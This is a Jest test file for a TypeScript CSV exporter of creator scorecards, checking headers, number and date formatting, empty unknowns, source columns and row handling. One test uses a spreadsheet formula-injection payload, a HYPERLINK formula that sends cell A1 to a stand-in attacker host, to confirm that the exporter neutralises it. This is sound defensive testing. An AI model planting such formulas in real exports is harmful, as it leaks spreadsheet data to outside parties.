import Papa from 'papaparse';
import { scorecardExportRows } from './scorecard-columns';
import { SCORECARD_CSV_HEADER, scorecardsToCsv } from './scorecard-csv';
import { scorecard, suggestion } from './test-scorecards';

const SOURCE_HEADERS = ['GMV', 'Orders', 'Posts', 'Clicks', 'Est. commission']
  .map((m) => `${m} source,${m} period,${m} captured at`)
  .join(',');
const HEADER =
  'Creator ID,Handle,Display name,Followers,Current tier,Suggested tier,Suggestion reason,' +
  'Agreed posts per week,Posts,Output rate (%),Currency,GMV,Orders,Clicks,Conversion rate (%),Revenue per post,' +
  'Est. commission,Agreed commission rate (%),Flat fees,Sample cost,Spark Ads spend,Total cost,' +
  'Commission-to-revenue (%),Hook retention (%),Repeat purchase rate (%),Samples received,' +
  `Net contribution,GMV per sample dollar,Spark Ads return,Last post date,Flags,${SOURCE_HEADERS}`;
/** The 15 source columns of a card without sources. */
const NO_SOURCES = ','.repeat(15);

function lines(csv: string): string[] {
  return csv.slice(1).split('\r\n');
}

describe('scorecardsToCsv', () => {
  it('starts with a UTF-8 BOM and the exact header line', () => {
    const csv = scorecardsToCsv([]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(SCORECARD_CSV_HEADER).toBe(HEADER);
    expect(csv).toBe(`\uFEFF${HEADER}\r\n`);
  });

  it('writes plain numbers, fractions, ISO dates, tier names and flags', () => {
    const card = scorecard({
      flags: [
        { kind: 'low-conversion', conversionRate: 0.034, orders: 41, clicks: 1200, threshold: 0.05 },
        {
          kind: 'revenue-per-post-outlier',
          direction: 'above',
          revenuePerPost: 154.31,
          tier: 'tier1',
          tierAverage: 60,
          factor: 2.57,
          threshold: 2,
          peers: 9,
        },
      ],
      complianceFlagged: true,
    });
    const rows = scorecardExportRows([card], [suggestion()], () => ({ handleDisplay: 'GlowWithMia' }));
    const [, line] = lines(scorecardsToCsv(rows));
    expect(line).toBe(
      '7001,GlowWithMia,Mia Chen,45200,Tier 1,Tier 2,' +
        '"Posted in 12 of the last 13 weeks, revenue per post of $154.31 over 90 days is above the Tier 1 median of $80, and no compliance flag.",' +
        '3,8,66.6667,USD,1234.5,41,1200,3.4,154.31,185.18,15,0,40,0,225.18,15,31,12,2,1009.32,30.8625,,2026-11-18,' +
        `Low conversion; Revenue per post high; Compliance flag${NO_SOURCES}`,
    );
  });

  it('leaves unknowns empty (never 0) and writes Prospect', () => {
    const card = scorecard({
      creatorKey: 'h:newbie',
      handle: 'newbie',
      displayName: null,
      followers: null,
      acceptedTier: null,
      agreedPostsPerWeek: null,
      outputRate: null,
      posts: 0,
      currency: null,
      gmv: null,
      orders: null,
      clicks: null,
      conversionRate: null,
      revenuePerPost: null,
      commission: null,
      commissionToRevenue: null,
      hookRetention: null,
      repeatPurchaseRate: null,
      samplesReceived: 0,
      netContribution: null,
      lastPostDay: null,
      agreedCommissionRate: null,
      flatFees: null,
      sampleCost: null,
      sparkAdsSpend: null,
      totalCost: null,
      gmvPerSampleDollar: null,
    });
    const initial = suggestion({
      creatorKey: 'h:newbie',
      kind: 'initial',
      fromTier: null,
      toTier: 'prospect',
      reason: "3.2K followers is under the Tier 1 band's 5K: a prospect at most.",
    });
    const [, line] = lines(scorecardsToCsv(scorecardExportRows([card], [initial])));
    const fields = line!.split(',');
    expect(fields).toHaveLength(46);
    expect(fields.slice(0, 9)).toEqual(['', 'newbie', '', '', '', 'Prospect', "3.2K followers is under the Tier 1 band's 5K: a prospect at most.", '', '0']);
    // Every unknown figure is empty; the only zeros are the card's own: 0 posts and 0 samples received.
    expect(fields.filter((f) => f !== '')).toEqual(['newbie', 'Prospect', "3.2K followers is under the Tier 1 band's 5K: a prospect at most.", '0', '0']);
  });

  it('says where each figure comes from, with its period and capture time', () => {
    const source = {
      kind: 'reported' as const,
      sources: ['manage-creators' as const],
      from: '2026-08-23',
      to: '2026-11-20',
      capturedAt: new Date(2026, 10, 20, 10, 5).getTime(),
      oldestCapturedAt: new Date(2026, 10, 20, 10, 5).getTime(),
      parts: 1,
      basis: 'reported:x',
    };
    const csv = scorecardsToCsv(scorecardExportRows([scorecard({ currency: 'EUR', sources: { gmv: source } })], []));
    const [header, row] = Papa.parse<string[]>(csv.slice(1), { header: false, skipEmptyLines: true }).data;
    const cell = (name: string) => row?.[header!.indexOf(name)];
    expect([cell('Currency'), cell('GMV source'), cell('GMV period'), cell('GMV captured at')]).toEqual([
      'EUR',
      'Manage creators',
      '2026-08-23 – 2026-11-20',
      '2026-11-20 10:05',
    ]);
    expect(cell('Orders source')).toBe('');
  });

  it('writes rates as percentages: exactly 10% is 10', () => {
    const csv = scorecardsToCsv(scorecardExportRows([scorecard({ commissionToRevenue: 0.1, conversionRate: 0.0056 })], []));
    const [header, row] = Papa.parse<string[]>(csv.slice(1), { header: false, skipEmptyLines: true }).data;
    expect(row?.[header!.indexOf('Commission-to-revenue (%)')]).toBe('10');
    expect(row?.[header!.indexOf('Conversion rate (%)')]).toBe('0.56');
  });

  it('does not export dismissed suggestions', () => {
    const rows = scorecardExportRows([scorecard()], [suggestion({ dismissed: true })]);
    const [, line] = lines(scorecardsToCsv(rows));
    expect(line?.startsWith('7001,glowwithmia,Mia Chen,45200,Tier 1,,,3,')).toBe(true);
  });

  it('neutralises a hostile display name but keeps negative numbers numeric', () => {
    const card = scorecard({
      displayName: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
      handle: '-mia',
      netContribution: -250.456,
      gmv: -0.5,
    });
    const csv = scorecardsToCsv(scorecardExportRows([card], []));
    const parsed = Papa.parse<string[]>(csv.slice(1), { header: false, delimiter: ',', skipEmptyLines: true }).data;
    const [header, row] = parsed;
    const cell = (name: string) => row?.[header!.indexOf(name)];
    expect(cell('Display name')).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`);
    expect(cell('Handle')).toBe("'-mia");
    expect(cell('Net contribution')).toBe('-250.46');
    expect(cell('GMV')).toBe('-0.5');
    expect(lines(csv)[1]).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")"`);
  });

  it('keeps every row in the scorecards order, one line each even with line breaks in names', () => {
    const cards = [
      scorecard({ creatorKey: 'id:1', displayName: 'Line\nbreak' }),
      scorecard({ creatorKey: 'id:2', displayName: 'Comma, Name' }),
    ];
    const csv = scorecardsToCsv(scorecardExportRows(cards, []));
    const parsed = Papa.parse<string[]>(csv.slice(1), { header: false, delimiter: ',', skipEmptyLines: true }).data;
    expect(parsed.map((r) => [r[0], r[2]])).toEqual([
      ['Creator ID', 'Display name'],
      ['1', 'Line\nbreak'],
      ['2', 'Comma, Name'],
    ]);
  });

  it('writes 5,000 scorecards, one line each (speed is measured by npm run bench)', () => {
    const cards = Array.from({ length: 5000 }, (_, i) =>
      scorecard({
        creatorKey: `id:${i}`,
        displayName: `Creator ${i}`,
        flags: i % 3 === 0 ? [{ kind: 'low-hook-retention', hookRetention: 0.2, videos: 3, threshold: 0.25 }] : [],
      }),
    );
    const rows = scorecardExportRows(cards, []);
    const csv = scorecardsToCsv(rows);
    expect(lines(csv)).toHaveLength(5002); // header, 5,000 rows, and the empty string after the last CRLF
  });
});
